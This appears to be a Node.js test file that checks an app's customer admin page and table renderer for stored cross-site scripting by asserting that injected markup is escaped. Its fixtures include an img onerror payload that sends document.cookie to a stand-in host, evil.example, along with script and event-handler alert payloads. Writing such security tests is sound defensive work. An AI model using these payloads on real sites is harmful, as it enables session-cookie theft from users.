'use strict';
const { test } = require('node:test');
const assert = require('node:assert');
const path = require('node:path');
const { makeReq, makeRes, withTimeout } = require('../testkit');

const mod = require(path.resolve(__dirname, process.env.CASE_MODULE || 'app.js'));

test('a stored customer name cannot inject markup into the admin page', async () => {
  mod.store.add({ name: '<img src=x onerror="fetch(`//evil.example/?c=`+document.cookie)">', email: 'm@example.com', city: 'Paris' });
  mod.store.add({ name: 'Eve', email: '<script>alert(1)</script>', city: 'Paris' });
  const res = makeRes();
  mod.customersPage(makeReq({ query: { city: 'Paris' } }), res);
  await withTimeout(res.done);
  assert.ok(!/<img|<script/i.test(res.text), `markup reached the page: ${res.text}`);
});

test('renderTable escapes cell values', () => {
  const html = mod.renderTable([{ key: 'v', label: 'V' }], [{ v: '<b onmouseover=alert(1)>x</b>' }]);
  assert.ok(!html.includes('<b '), html);
});
